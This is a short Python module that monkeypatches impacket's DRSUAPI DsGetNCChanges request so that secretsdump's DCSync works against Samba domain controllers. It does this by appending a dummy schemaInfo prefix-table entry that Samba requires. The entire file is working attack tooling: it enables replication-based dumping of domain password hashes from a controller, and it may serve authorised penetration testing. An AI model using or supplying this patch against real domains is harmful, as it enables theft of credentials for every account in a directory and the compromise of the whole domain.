"""Patch: a DRSUAPI DsGetNCChanges request that Samba decodes (DCSync).

Samba requires the client's PrefixTableDest to end with a schemaInfo entry
(ndx 0, 0xFF || revision || invocation GUID, 21 bytes). impacket's secretsdump
omits it; Samba logs "Failed to decode remote prefixMap: WERR_INVALID_PARAMETER"
and secretsdump fails with "DRSR SessionError: code: 0x0". We append a dummy
entry; Samba does not check its contents.
"""
from impacket.dcerpc.v5 import drsuapi

_original_get_data = drsuapi.DRSGetNCChanges.getData


def _get_data(self, *args, **kwargs):
    try:
        request = self["pmsgIn"]["V8"]
        table = request["PrefixTableDest"]["pPrefixEntry"]
        if table and not any(e["ndx"] == 0 and e["prefix"]["length"] == 21 for e in table):
            entry = drsuapi.PrefixTableEntry()
            entry["ndx"] = 0
            entry["prefix"]["length"] = 21
            entry["prefix"]["elements"] = [0xFF] + [0] * 20
            table.append(entry)
            request["PrefixTableDest"]["PrefixCount"] = len(table)
    except Exception:  # not a V8 request: leave it alone
        pass
    return _original_get_data(self, *args, **kwargs)


def apply():
    drsuapi.DRSGetNCChanges.getData = _get_data
